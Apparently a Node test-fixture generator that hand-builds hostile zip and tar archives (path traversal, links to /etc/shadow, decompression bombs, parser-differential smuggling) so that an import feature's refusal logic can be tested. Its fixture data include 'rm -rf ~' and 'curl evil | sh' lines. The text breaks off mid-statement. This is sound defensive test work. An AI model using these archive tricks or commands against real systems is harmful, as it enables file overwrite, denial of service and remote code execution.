/**
 * Hostile (and a few good) archives for the import's safety tests: ONE
 * generator that feeds both jest (src/workspace/__tests__/extract.spec.ts
 * iterates over `cases()`) and pytest (which reads the files and
 * `manifest.json` that `node dev/hostile/cli.js <outdir>` writes).
 *
 * Every archive is built byte by byte here (Node built-ins only: zlib for
 * DEFLATE/gzip), so each hostile trait is explicit and no archiver can
 * "helpfully" repair it.
 *
 * ## Schema (manifest.json is `cases()` without `bytes`)
 *
 * ```
 * [
 *   {
 *     "name":    string,   // unique, kebab-case, says what the case is
 *     "file":    string,   // file name, e.g. "zip-slip.zip"; its extension
 *                          // (case-insensitive: .zip, .tar.gz, .tgz, .tar)
 *                          // selects the format
 *     "expect":  "ok" | "refuse",
 *     "entries": string[], // only when "ok": the relative, "/"-separated
 *                          // paths of the files the import writes, in any
 *                          // order (compare as sets). Folders and skipped
 *                          // hidden entries are not listed.
 *     "reason":  string,   // only when "refuse": a lower-case substring the
 *                          // refusal message must contain (compare with the
 *                          // message lower-cased)
 *     "code":    string    // only when "refuse": the archive problem code
 *                          // both planners must raise (ArchiveProblem in
 *                          // src/workspace/extract.ts, ARCHIVE_CODES in
 *                          // jupyterlab_artifacts/extract.py); its words
 *                          // are in src/workspace/words.ts
 *   }
 * ]
 * ```
 * (`bytes`, a Buffer, exists only in `cases()`.)
 *
 * A `reason` is the offending entry's name when one is at fault (as stored,
 * lower-cased; for names with a backslash, a double quote or a control
 * character only a plain part of the name, since messages may escape those). When no single
 * entry is at fault it is one of these keywords, which a refusal message
 * must then contain:
 *
 * - `central directory`: a zip's end record, central directory and entries
 *   do not agree exactly (count, size, offset, gaps);
 * - `corrupt`: a truncated or unreadable archive or stream;
 * - `bomb`: the archive as a whole inflates more than the ratio limit;
 * - `entries`: more entries than the entry-count limit;
 * - `checksum`: a tar header whose checksum is wrong;
 * - `pax`: a tar PAX header that is malformed or that readers apply
 *   differently (a global header setting a path or a size).
 *
 * Hidden entries (any path segment starting with ".") are skipped and listed
 * by the import, not refused; an "ok" case's `entries` leaves them out.
 *
 * ## Limits the cases assume
 *
 * {@link LIMITS} (the extension's defaults, from schema/catalogue.json):
 * 2,000,000,000 bytes extracted, 20,000 entries,
 * ratio 200 per entry and overall, entries and archives inflating to less
 * than 1 MiB exempt from the ratio check.
 */
'use strict';

const zlib = require('zlib');

const { properties: settings } = require('../../schema/catalogue.json');

/** The limits every case assumes (the import's defaults, from the schema). */
const LIMITS = {
  maxTotalBytes: settings.maxExtractedBytes.default,
  maxEntries: settings.maxEntries.default,
  maxRatio: settings.maxRatio.default
};

/** Below this inflated size the compression ratio is not checked. */
const RATIO_FLOOR_BYTES = 1024 * 1024;

const MiB = 1024 * 1024;

const buf = data =>
  data === undefined
    ? Buffer.alloc(0)
    : typeof data === 'string'
      ? Buffer.from(data, 'utf8')
      : Buffer.from(data);

/** A repeatable pseudo-random buffer (incompressible). */
function random(n, seed = 12345) {
  const out = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) {
      c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    }
    table[n] = c >>> 0;
  }
  return table;
})();

function crc32(data) {
  if (typeof zlib.crc32 === 'function') {
    return zlib.crc32(data) >>> 0;
  }
  let c = 0xffffffff;
  for (let i = 0; i < data.length; i++) {
    c = CRC_TABLE[(c ^ data[i]) & 0xff] ^ (c >>> 8);
  }
  return (c ^ 0xffffffff) >>> 0;
}

// ---------------------------------------------------------------------------
// Zip, written by hand (APPNOTE 4.3): local headers, central directory, end
// record. Every field can be forged.

/**
 * Build a zip.
 *
 * @param entries - `{ name, data, method (0 stored | 8 deflate, default 8),
 *   unix (mode, e.g. 0o120777 for a symlink), dosDir, flags,
 *   nameBytes (raw name, central and local), localName (a different local
 *   name), localCompressedSize, localSize, declaredSize (both headers),
 *   extra (Buffer, central and local), descriptor (12 | 16 | 24: a data
 *   descriptor of that many bytes follows the data) }`
 * @param options - `{ eocdCount, eocdSize, eocdOffset, prefix (bytes
 *   before the first local header, offsets not adjusted), dropCentral
 *   (indexes of entries left out of the central directory) }`
 */
function zip(entries, options = {}) {
  const locals = [];
  const centrals = [];
  let offset = options.prefix ? options.prefix.length : 0;
  if (options.prefix) {
    locals.push(options.prefix);
  }
  entries.forEach((e, index) => {
    const data = buf(e.data);
    const method = e.method ?? 8;
    const compressed =
      method === 8 ? zlib.deflateRawSync(data, { level: e.level ?? 9 }) : data;
    const nameBytes = e.nameBytes ?? Buffer.from(e.name, 'utf8');
    const ascii = nameBytes.every(b => b < 0x80);
    const flags = (e.flags ?? (ascii ? 0 : 0x800)) | (e.descriptor ? 0x8 : 0);
    const crc = crc32(data);
    const size = e.declaredSize ?? data.length;
    const extra = e.extra ?? Buffer.alloc(0);
    const localName =
      e.localName !== undefined ? Buffer.from(e.localName, 'utf8') : nameBytes;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0x6000, 10); // 12:00
    local.writeUInt16LE(0x5821, 12); // 2024-01-01
    // With a data descriptor, the local header leaves CRC and sizes zero.
    local.writeUInt32LE(e.descriptor ? 0 : crc, 14);
    local.writeUInt32LE(
      e.localCompressedSize ?? (e.descriptor ? 0 : compressed.length),
      18
    );
    local.writeUInt32LE(e.localSize ?? (e.descriptor ? 0 : size), 22);
    local.writeUInt16LE(localName.length, 26);
    local.writeUInt16LE(extra.length, 28);
    // Data descriptor: 12 (no signature), 16 (signature) or 24 bytes
    // (signature and 8-byte sizes, as some writers use even for small files).
    let descriptor = Buffer.alloc(0);
    if (e.descriptor) {
      const wide = e.descriptor === 24;
      descriptor = Buffer.alloc(e.descriptor);
      let p = 0;
      if (e.descriptor !== 12) {
        descriptor.writeUInt32LE(0x08074b50, 0);
        p = 4;
      }
      descriptor.writeUInt32LE(crc, p);
      if (wide) {
        descriptor.writeBigUInt64LE(BigInt(compressed.length), p + 4);
        descriptor.writeBigUInt64LE(BigInt(size), p + 12);
      } else {
        descriptor.writeUInt32LE(compressed.length, p + 4);
        descriptor.writeUInt32LE(size, p + 8);
      }
    }
    const localRecord = Buffer.concat([
      local,
      localName,
      extra,
      compressed,
      descriptor
    ]);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(e.unix !== undefined ? (3 << 8) | 20 : 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0x6000, 12);
    central.writeUInt16LE(0x5821, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt16LE(extra.length, 30);
    const external =
      ((e.unix !== undefined ? e.unix : 0) * 0x10000 +
        (e.dosDir ? 0x10 : 0)) >>>
      0;
    central.writeUInt32LE(external, 38);
    central.writeUInt32LE(e.localOffset ?? offset, 42);
    if (!(options.dropCentral ?? []).includes(index)) {
      centrals.push(Buffer.concat([central, nameBytes, extra]));
    }
    locals.push(localRecord);
    offset += localRecord.length;
  });
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const count = options.eocdCount ?? centrals.length;
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(options.eocdSize ?? cd.length, 12);
  end.writeUInt32LE(options.eocdOffset ?? offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** Info-ZIP's Unicode Path extra field (0x7075) carrying `name`. */
function unicodePathExtra(name, forNameBytes) {
  const utf8 = Buffer.from(name, 'utf8');
  const field = Buffer.alloc(9);
  field.writeUInt16LE(0x7075, 0);
  field.writeUInt16LE(5 + utf8.length, 2);
  field.writeUInt8(1, 4);
  field.writeUInt32LE(crc32(forNameBytes), 5);
  return Buffer.concat([field, utf8]);
}

// ---------------------------------------------------------------------------
// Tar, written by hand (POSIX ustar, with GNU and V7 variants).

/**
 * One 512-byte tar header.
 *
 * @param h - `{ name, size, type ('0', '\0', '5', '2', 'x', 'L', …),
 *   linkname, mode, magic ('posix' | 'gnu' | 'v7'), prefix (string, raw),
 *   badChecksum }`
 */
function tarHeader(h) {
  const block = Buffer.alloc(512);
  const put = (value, at, length) => {
    const bytes = Buffer.isBuffer(value) ? value : Buffer.from(value, 'utf8');
    if (bytes.length > length) {
      throw new Error(`tar field too long: ${value}`);
    }
    bytes.copy(block, at);
  };
  const octal = (n, length) => n.toString(8).padStart(length - 1, '0') + '\0';
  put(h.name, 0, 100);
  put(octal(h.mode ?? (h.type === '5' ? 0o755 : 0o644), 8), 100, 8);
  put(octal(0, 8), 108, 8);
  put(octal(0, 8), 116, 8);
  put(octal(h.size ?? 0, 12), 124, 12);
  put(octal(1704110400, 12), 136, 12);
  put(h.type ?? '0', 156, 1);
  if (h.linkname) {
    put(h.linkname, 157, 100);
  }
  const magic = h.magic ?? 'posix';
  if (magic === 'posix') {
    put('ustar\0', 257, 6);
    put('00', 263, 2);
  } else if (magic === 'gnu') {
    put('ustar  \0', 257, 8);
  }
  if (magic !== 'v7') {
    put('root', 265, 32);
    put('root', 297, 32);
  }
  if (h.prefix) {
    put(h.prefix, 345, 155);
  }
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const b of block) {
    sum += b;
  }
  if (h.badChecksum) {
    sum += 7;
  }
  put(sum.toString(8).padStart(6, '0') + '\0 ', 148, 8);
  return block;
}

const pad = data => {
  const rest = data.length % 512;
  return rest ? Buffer.concat([data, Buffer.alloc(512 - rest)]) : data;
};

/** A PAX extended header record set (`"%d %s=%s\n"`). */
function paxRecords(fields) {
  const parts = [];
  for (const [key, value] of Object.entries(fields)) {
    const body = ` ${key}=${value}\n`;
    let length = Buffer.byteLength(body) + 1;
    while (String(length).length + Buffer.byteLength(body) !== length) {
      length = String(length).length + Buffer.byteLength(body);
    }
    parts.push(Buffer.from(`${length}${body}`, 'utf8'));
  }
  return Buffer.concat(parts);
}

/**
 * Build a tar. Each item is a member `{ name, data, type, linkname, magic,
 * prefix, size (declared, default the data's length), badChecksum, pax
 * (fields of a preceding 'x' header), globalPax (fields of a preceding 'g'
 * header), gnuLongName (a preceding 'L' header) }` or `{ raw: Buffer }`
 * (bytes appended as they are).
 */
function tar(items, options = {}) {
  const out = [];
  for (const item of items) {
    if (item.raw) {
      out.push(item.raw);
      continue;
    }
    if (item.globalPax) {
      const body = paxRecords(item.globalPax);
      out.push(
        tarHeader({ name: 'pax_global_header', type: 'g', size: body.length }),
        pad(body)
      );
    }
    if (item.pax) {
      const body = paxRecords(item.pax);
      out.push(
        tarHeader({ name: 'PaxHeader/x', type: 'x', size: body.length }),
        pad(body)
      );
    }
    if (item.gnuLongName) {
      const body = Buffer.concat([
        Buffer.from(item.gnuLongName),
        Buffer.alloc(1)
      ]);
      out.push(
        tarHeader({
          name: '././@LongLink',
          type: 'L',
          size: body.length,
          magic: 'gnu'
        }),
        pad(body)
      );
    }
    const data = buf(item.data);
    out.push(
      tarHeader({
        name: item.name,
        size: item.size ?? data.length,
        type: item.type,
        linkname: item.linkname,
        magic: item.magic,
        prefix: item.prefix,
        badChecksum: item.badChecksum
      })
    );
    if (data.length) {
      out.push(pad(data));
    }
  }
  if (!options.noEnd) {
    out.push(Buffer.alloc(1024));
  }
  return Buffer.concat(out);
}

const gzip = data => zlib.gzipSync(data, { level: 9 });

// ---------------------------------------------------------------------------
// The cases.

const refuse = (name, file, bytes, reason, code) => ({
  name,
  file,
  bytes,
  expect: 'refuse',
  reason: reason.toLowerCase(),
  code
});

const ok = (name, file, bytes, entries) => ({
  name,
  file,
  bytes,
  expect: 'ok',
  entries
});

function goodFiles() {
  return [
    ['README.md', '# A good artifact\n'],
    ['notebooks/analysis.ipynb', '{"cells": [], "nbformat": 4}'],
    ['data/values.csv', 'a,b\n1,2\n'],
    ['data/empty.txt', ''],
    ['data/blob.bin', random(200000)],
    ['donn\u00e9es/\u00e9t\u00e9.csv', 'x\n'],
    // Close to reserved or hidden names, and fine.
    ['CONTRIBUTING.md', 'yes'],
    ['console.txt', 'fine'],
    ['com10.txt', 'fine'],
    ['nul-hypothesis.md', 'fine'],
    ['LICENSE', 'CC-BY-4.0'],
    ['scripts/run..sh', 'echo ok']
  ];
}

let cached = null;

/**
 * Every case, built once per process.
 *
 * @returns `{ name, file, bytes, expect, entries?, reason? }[]`
 */
function cases() {
  if (cached) {
    return cached;
  }
  const out = [];
  const good = goodFiles();
  const goodPaths = good.map(([p]) => p);

  // --- Good archives (must pass, byte for byte) --------------------------
  out.push(
    ok(
      'good-mixed-zip',
      'good-mixed.zip',
      zip([
        { name: 'docs/', data: '', method: 0, dosDir: true },
        { name: 'docs/empty/', data: '', method: 0, unix: 0o040755 },
        ...good.map(([name, data], i) => ({
          name,
          data,
          method: i % 3 === 0 ? 0 : 8,
          unix: i % 2 ? 0o100644 : undefined
        }))
      ]),
      goodPaths
    )
  );
  const longName =
    'long/' + 'd'.repeat(120) + '/' + '\u00e9'.repeat(60) + '.txt';
  const gnuLong = 'gnu/' + 'g'.repeat(150) + '.txt';
  const splitPrefix = 'split/' + 'p'.repeat(90);
  const goodTar = () =>
    tar([
      { name: 'top/', type: '5' },
      ...good.map(([name, data]) => ({ name: `top/${name}`, data })),
      { name: 'x', pax: { path: longName }, data: 'pax long name' },
      { name: 'g', gnuLongName: gnuLong, data: 'gnu long name', magic: 'gnu' },
      { name: 'q'.repeat(40) + '.txt', prefix: splitPrefix, data: 'prefix' }
    ]);
  const goodTarPaths = [
    ...goodPaths.map(p => `top/${p}`),
    longName,
    gnuLong,
    `${splitPrefix}/${'q'.repeat(40)}.txt`
  ];
  out.push(
    ok('good-mixed-tar-gz', 'good-mixed.tar.gz', gzip(goodTar()), goodTarPaths)
  );
  out.push(ok('good-plain-tar', 'good-plain.tar', goodTar(), goodTarPaths));
  out.push(
    ok(
      'good-upper-case-zip-extension',
      'good-upper.ZIP',
      zip(good.map(([name, data]) => ({ name, data }))),
      goodPaths
    )
  );
  out.push(
    ok(
      'good-tgz',
      'good.tgz',
      gzip(tar(good.map(([name, data]) => ({ name, data })))),
      goodPaths
    )
  );

  out.push(
    ok(
      'good-zip-data-descriptors',
      'good-data-descriptors.zip',
      zip([
        { name: 'a.txt', data: 'no signature', descriptor: 12 },
        { name: 'b.txt', data: 'with signature', descriptor: 16 },
        { name: 'c.txt', data: '8-byte sizes', descriptor: 24 },
        { name: 'd.bin', data: random(5000), descriptor: 16, method: 0 }
      ]),
      ['a.txt', 'b.txt', 'c.txt', 'd.bin']
    )
  );

  // --- Hidden files: skipped (and listed), never written -----------------
  const hidden = [
    ['README.md', 'hi'],
    ['.git/config', '[core]'],
    ['.git/hooks/post-checkout', '#!/bin/sh\nrm -rf ~'],
    ['.ipynb_checkpoints/analysis-checkpoint.ipynb', '{}'],
    ['.env', 'SECRET=1'],
    ['sub/.hidden', 'x'],
    ['sub/kept.txt', 'kept'],
    ['__MACOSX/._README.md', 'junk']
  ];
  out.push(
    ok(
      'hidden-files-zip',
      'hidden-files.zip',
      zip(hidden.map(([name, data]) => ({ name, data }))),
      ['README.md', 'sub/kept.txt']
    )
  );
  out.push(
    ok(
      'hidden-files-tar-gz',
      'hidden-files.tar.gz',
      gzip(tar(hidden.map(([name, data]) => ({ name, data })))),
      ['README.md', 'sub/kept.txt']
    )
  );

  // --- Zip slip, absolute paths, drive letters, backslashes --------------
  const zipWith = name =>
    zip([
      { name: 'fine.txt', data: 'ok' },
      { name, data: 'pwned' }
    ]);
  const tarWith = name =>
    tar([
      { name: 'fine.txt', data: 'ok' },
      { name, data: 'pwned' }
    ]);
  out.push(
    refuse(
      'zip-slip',
      'zip-slip.zip',
      zipWith('../evil.sh'),
      '../evil.sh',
      'path-climbs'
    )
  );
  out.push(
    refuse(
      'zip-slip-nested',
      'zip-slip-nested.zip',
      zipWith('docs/../../evil.sh'),
      'docs/../../evil.sh',
      'path-climbs'
    )
  );
  out.push(
    refuse(
      'tar-slip',
      'tar-slip.tar.gz',
      gzip(tarWith('../evil.sh')),
      '../evil.sh',
      'path-climbs'
    )
  );
  out.push(
    refuse(
      'zip-absolute-path',
      'absolute-path.zip',
      zipWith('/etc/passwd'),
      '/etc/passwd',
      'path-absolute'
    )
  );
  out.push(
    refuse(
      'tar-absolute-path',
      'absolute-path.tar',
      tarWith('/etc/cron.d/evil'),
      '/etc/cron.d/evil',
      'path-absolute'
    )
  );
  out.push(
    refuse(
      'zip-drive-letter',
      'drive-letter.zip',
      zipWith('C:/Windows/evil.dll'),
      'windows/evil.dll',
      'path-drive'
    )
  );
  out.push(
    refuse(
      'zip-backslash',
      'backslash.zip',
      zipWith('..\\evil.sh'),
      'evil.sh',
      'name-backslash'
    )
  );
  out.push(
    refuse(
      'tar-backslash',
      'backslash.tar',
      tarWith('a\\..\\..\\evil.sh'),
      'evil.sh',
      'name-backslash'
    )
  );

  // --- Links and devices --------------------------------------------------
  out.push(
    refuse(
      'zip-symlink',
      'symlink.zip',
      zip([
        { name: 'ok.txt', data: 'ok', unix: 0o100644 },
        { name: 'passwd-link', data: '/etc/passwd', unix: 0o120777 }
      ]),
      'passwd-link',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'zip-device',
      'device.zip',
      zip([{ name: 'tty-device', data: '', unix: 0o020666, method: 0 }]),
      'tty-device',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'tar-symlink',
      'symlink.tar',
      tar([
        { name: 'ok.txt', data: 'ok' },
        { name: 'passwd-link', type: '2', linkname: '/etc/passwd' }
      ]),
      'passwd-link',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'tar-symlink-then-write-through',
      'symlink-through.tar.gz',
      gzip(
        tar([
          { name: 'escape', type: '2', linkname: '/tmp' },
          { name: 'escape/evil.sh', data: 'pwned' }
        ])
      ),
      'escape',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'tar-hardlink',
      'hardlink.tar',
      tar([
        { name: 'ok.txt', data: 'ok' },
        { name: 'shadow-link', type: '1', linkname: '../../etc/shadow' }
      ]),
      'shadow-link',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'tar-character-device',
      'device.tar',
      tar([{ name: 'tty-device', type: '3' }]),
      'tty-device',
      'special-entry'
    )
  );
  out.push(
    refuse(
      'tar-fifo',
      'fifo.tar',
      tar([{ name: 'pipe-fifo', type: '6' }]),
      'pipe-fifo',
      'special-entry'
    )
  );

  // --- Duplicates and collisions -------------------------------------------
  out.push(
    refuse(
      'zip-duplicate-name',
      'duplicate.zip',
      zip([
        { name: 'data/one.csv', data: '1' },
        { name: 'data/one.csv', data: '2' }
      ]),
      'data/one.csv',
      'duplicate-file'
    )
  );
  out.push(
    refuse(
      'tar-duplicate-name',
      'duplicate.tar',
      tar([
        { name: 'a.txt', data: '1' },
        { name: 'a.txt', data: '2' }
      ]),
      'a.txt',
      'duplicate-file'
    )
  );
  out.push(
    refuse(
      'zip-case-collision',
      'case-collision.zip',
      zip([
        { name: 'README.md', data: '1' },
        { name: 'readme.md', data: '2' }
      ]),
      'readme.md',
      'name-case-twin'
    )
  );
  out.push(
    refuse(
      'tar-case-collision-folder',
      'case-collision-folder.tar.gz',
      gzip(
        tar([
          { name: 'Data/a.csv', data: '1' },
          { name: 'data/b.csv', data: '2' }
        ])
      ),
      'data/b.csv',
      'name-case-twin'
    )
  );
  out.push(
    refuse(
      'zip-unicode-nfc-nfd-collision',
      'unicode-collision.zip',
      zip([
        { name: 'caf\u00e9.txt', data: 'nfc' },
        { name: 'cafe\u0301.txt', data: 'nfd' }
      ]),
      'cafe\u0301.txt',
      'name-unicode-twin'
    )
  );
  out.push(
    refuse(
      'tar-unicode-case-collision',
      'unicode-case-collision.tar',
      tar([
        { name: 'R\u00e9sum\u00e9/a.txt', data: 'nfc' },
        { name: 're\u0301sume\u0301/b.txt', data: 'nfd, lower case' }
      ]),
      're\u0301sume\u0301/b.txt',
      'name-case-twin'
    )
  );
  out.push(
    refuse(
      'tar-file-and-folder',
      'file-and-folder.tar.gz',
      gzip(
        tar([
          { name: 'a', data: 'x' },
          { name: 'a/b', data: 'y' }
        ])
      ),
      'a/b',
      'file-and-folder'
    )
  );

  // --- Names Windows (or macOS) cannot hold ---------------------------------
  const windows = [
    ['windows-con', 'data/CON.txt', 'zip', 'name-windows-reserved'],
    ['windows-aux', 'aux', 'tar', 'name-windows-reserved'],
    ['windows-com1', 'com1.csv', 'zip', 'name-windows-reserved'],
    ['windows-lpt9', 'logs/LPT9.log', 'tar.gz', 'name-windows-reserved'],
    ['windows-nul-folder', 'nul/readme.md', 'zip', 'name-windows-reserved'],
    [
      'windows-prn-double-extension',
      'PRN.tar.gz',
      'zip',
      'name-windows-reserved'
    ],
    ['windows-trailing-dot', 'notes.', 'zip', 'name-windows-trailing'],
    ['windows-trailing-space', 'notes ', 'tar', 'name-windows-trailing'],
    [
      'windows-trailing-dot-folder',
      'dir./a.txt',
      'zip',
      'name-windows-trailing'
    ],
    ['windows-colon', 'notes:stream.txt', 'zip', 'name-windows-character'],
    ['windows-less-than', 'a<b.txt', 'zip', 'name-windows-character'],
    ['windows-greater-than', 'a>b.txt', 'tar', 'name-windows-character'],
    // A message may escape the quote: only a plain part must appear.
    [
      'windows-double-quote',
      'say"hi".txt',
      'zip',
      'name-windows-character',
      'say'
    ],
    ['windows-pipe', 'a|b.txt', 'zip', 'name-windows-character'],
    ['windows-question-mark', 'what?.txt', 'tar', 'name-windows-character'],
    ['windows-asterisk', 'star*.txt', 'zip', 'name-windows-character']
  ];
  for (const [name, entry, kind, code, reason] of windows) {
    const ext = kind === 'zip' ? 'zip' : kind;
    const bytes =
      kind === 'zip'
        ? zipWith(entry)
        : kind === 'tar'
          ? tarWith(entry)
          : gzip(tarWith(entry));
    out.push(refuse(name, `${name}.${ext}`, bytes, reason ?? entry, code));
  }
  out.push(
    refuse(
      'zip-control-character',
      'control-character.zip',
      zipWith('bad\u0001name.txt'),
      'name.txt',
      'name-control'
    )
  );
  out.push(
    refuse(
      'zip-name-not-utf8',
      'not-utf8.zip',
      zip([
        {
          name: 'x',
          nameBytes: Buffer.from([
            0x63, 0x61, 0x66, 0xe9, 0x2e, 0x74, 0x78, 0x74
          ]),
          flags: 0x800,
          data: 'x'
        }
      ]),
      'caf',
      'name-not-utf8'
    )
  );
  const tooLong = 'n'.repeat(300) + '.txt';
  out.push(
    refuse(
      'zip-name-too-long',
      'name-too-long.zip',
      zipWith(tooLong),
      tooLong,
      'name-too-long'
    )
  );

  // --- Bombs and limits -----------------------------------------------------
  const zeros64 = Buffer.alloc(64 * MiB);
  out.push(
    refuse(
      'zip-deflate-bomb',
      'deflate-bomb.zip',
      zip([
        { name: 'README.md', data: 'hi' },
        { name: 'bomb.bin', data: zeros64 }
      ]),
      'bomb.bin',
      'entry-bomb'
    )
  );
  out.push(
    refuse(
      'tar-gz-bomb',
      'gzip-bomb.tar.gz',
      gzip(tar([{ name: 'zeros.bin', data: zeros64 }])),
      'bomb',
      'stream-bomb'
    )
  );
  // Each entry inflates to just under the 1 MiB floor (exempt on its own);
  // together 64 MB from well under 100 KB: the overall ratio refuses it.
  out.push(
    refuse(
      'zip-ratio-many-small-entries',
      'ratio-limit.zip',
      zip(
        Array.from({ length: 64 }, (_, i) => ({
          name: `part-${String(i).padStart(2, '0')}.bin`,
          data: zeros64.subarray(0, 1000000)
        }))
      ),
      'bomb',
      'archive-bomb'
    )
  );
  out.push(
    refuse(
      'zip-lying-size',
      'lying-size.zip',
      zip([
        { name: 'liar.bin', data: Buffer.alloc(5000000), declaredSize: 1000 }
      ]),
      'liar.bin',
      'lying-size'
    )
  );
  out.push(
    refuse(
      'zip-entry-count-limit',
      'entry-count.zip',
      zip(
        Array.from({ length: LIMITS.maxEntries + 1 }, (_, i) => ({
          name: `f${i}.txt`,
          data: '',
          method: 0
        }))
      ),
      'entries',
      'too-many-entries'
    )
  );

  // --- Parser differentials: zip --------------------------------------------
  // The end record counts 1 entry; the central directory holds 3 (a hidden
  // file and a bomb among them): a reader trusting the count sees README.md
  // only, one walking the directory writes all three.
  out.push(
    refuse(
      'zip-end-record-count-mismatch-bomb',
      'end-record-count-mismatch-bomb.zip',
      zip(
        [
          { name: 'README.md', data: 'hi' },
          { name: '.bashrc', data: 'curl evil | sh' },
          { name: 'bomb.bin', data: zeros64 }
        ],
        { eocdCount: 1 }
      ),
      'central directory',
      'zip-unreadable'
    )
  );
  // The same without anything else wrong: only the count can refuse it.
  out.push(
    refuse(
      'zip-end-record-count-mismatch',
      'end-record-count-mismatch.zip',
      zip(
        [
          { name: 'README.md', data: 'hi' },
          { name: 'notes.txt', data: 'unseen' },
          { name: 'more.txt', data: 'unseen' }
        ],
        { eocdCount: 1 }
      ),
      'central directory',
      'zip-unreadable'
    )
  );
  {
    const entries = [
      { name: 'README.md', data: 'hi' },
      { name: 'notes.txt', data: 'x' }
    ];
    const cdSize =
      zip(entries).length - zip(entries, { dropCentral: [0, 1] }).length;
    out.push(
      refuse(
        'zip-central-directory-size-mismatch',
        'central-directory-size-mismatch.zip',
        zip(entries, { eocdSize: cdSize + 46 }),
        'central directory',
        'zip-unreadable'
      )
    );
  }
  // Bytes before the first local header, offsets not adjusted: Python shifts
  // every offset by the difference, others refuse or read the prefix.
  out.push(
    refuse(
      'zip-with-unaccounted-prefix',
      'unaccounted-prefix.zip',
      zip([{ name: 'README.md', data: 'hi' }], {
        prefix: Buffer.from('#!/bin/sh\nexit 0\n')
      }),
      'central directory',
      'zip-unreadable'
    )
  );
  // A local entry the central directory does not list: invisible to readers
  // of the directory, written by streaming readers.
  out.push(
    refuse(
      'zip-local-entry-not-in-central-directory',
      'hidden-local-entry.zip',
      zip(
        [
          { name: 'README.md', data: 'hi' },
          { name: 'evil.sh', data: 'pwned' },
          { name: 'notes.txt', data: 'x' }
        ],
        { dropCentral: [1] }
      ),
      'central directory',
      'zip-unreadable'
    )
  );
  out.push(
    refuse(
      'zip-local-central-name-mismatch',
      'local-central-name-mismatch.zip',
      zip([
        { name: 'notes.txt', data: 'x' },
        { name: 'README.md', localName: '.bashrc__', data: 'pwned' }
      ]),
      'readme.md',
      'zip-local-name-mismatch'
    )
  );
  out.push(
    refuse(
      'zip-local-central-size-mismatch',
      'local-central-size-mismatch.zip',
      zip([
        { name: 'notes.txt', data: 'x' },
        { name: 'data.csv', data: 'a,b\n'.repeat(100), localSize: 7 }
      ]),
      'data.csv',
      'zip-local-header-mismatch'
    )
  );
  out.push(
    refuse(
      'zip-unicode-path-extra-disagrees',
      'unicode-path-extra.zip',
      zip([
        {
          name: 'README.md',
          data: 'x',
          extra: unicodePathExtra('.bashrc', Buffer.from('README.md'))
        }
      ]),
      'readme.md',
      'zip-unicode-path-mismatch'
    )
  );
  out.push(
    refuse(
      'zip-folder-entry-with-data',
      'folder-with-data.zip',
      zip([{ name: 'docs/', data: 'hidden bytes', dosDir: true }]),
      'docs/',
      'zip-folder-data'
    )
  );
  out.push(
    refuse(
      'zip-encrypted',
      'encrypted.zip',
      zip([{ name: 'secret.txt', data: 'x', flags: 0x1, method: 0 }]),
      'secret.txt',
      'encrypted'
    )
  );
  out.push(
    refuse(
      'zip-unsupported-method',
      'unsupported-method.zip',
      (() => {
        const z = zip([{ name: 'data.bz2', data: 'BZh9', method: 0 }]);
        // Method 12 (bzip2) in both headers.
        z.writeUInt16LE(12, 8);
        z.writeUInt16LE(12, z.indexOf(Buffer.from([0x50, 0x4b, 1, 2])) + 10);
        return z;
      })(),
      'data.bz2',
      'unsupported-method'
    )
  );
  {
    const whole = zip(good.map(([name, data]) => ({ name, data })));
    out.push(
      refuse(
        'zip-truncated',
        'truncated.zip',
        whole.subarray(0, Math.floor(whole.length * 0.6)),
        'corrupt',
        'zip-unreadable'
      )
    );
  }

  // --- Parser differentials: tar --------------------------------------------
  // An old-style directory (type NUL, trailing slash) that declares a size:
  // some readers skip that many bytes as its body, others (Python) read
  // them as more headers.
  {
    const smuggled = tar(
      [
        { name: '.ssh-link', type: '2', linkname: '/' },
        { name: '.bashrc', data: 'curl evil | sh' }
      ],
      { noEnd: true }
    );
    out.push(
      refuse(
        'tar-old-style-dir-with-size',
        'old-style-dir-with-size.tar',
        tar([
          { name: 'olddir/', type: '\0', size: smuggled.length },
          { raw: smuggled },
          { name: 'README.md', data: 'hi' }
        ]),
        'olddir',
        'tar-old-folder-size'
      )
    );
    out.push(
      refuse(
        'tar-dir-with-size',
        'dir-with-size.tar',
        tar([
          { name: 'sizeddir/', type: '5', size: smuggled.length },
          { raw: smuggled },
          { name: 'README.md', data: 'hi' }
        ]),
        'sizeddir',
        'tar-folder-size'
      )
    );
  }
  // GNU magic with bytes in the ustar prefix field: Python prepends them,
  // GNU-aware readers ignore them.
  out.push(
    refuse(
      'tar-gnu-magic-with-prefix',
      'gnu-magic-with-prefix.tar',
      tar([
        {
          name: 'README.md',
          data: 'hi',
          magic: 'gnu',
          prefix: '.ipynb_checkpoints/deep'
        }
      ]),
      'readme.md',
      'tar-prefix-not-ustar'
    )
  );
  out.push(
    refuse(
      'tar-v7-with-prefix',
      'v7-with-prefix.tar',
      tar([
        { name: 'README.md', data: 'hi', magic: 'v7', prefix: '.git/hooks' }
      ]),
      'readme.md',
      'tar-prefix-not-ustar'
    )
  );
  out.push(
    refuse(
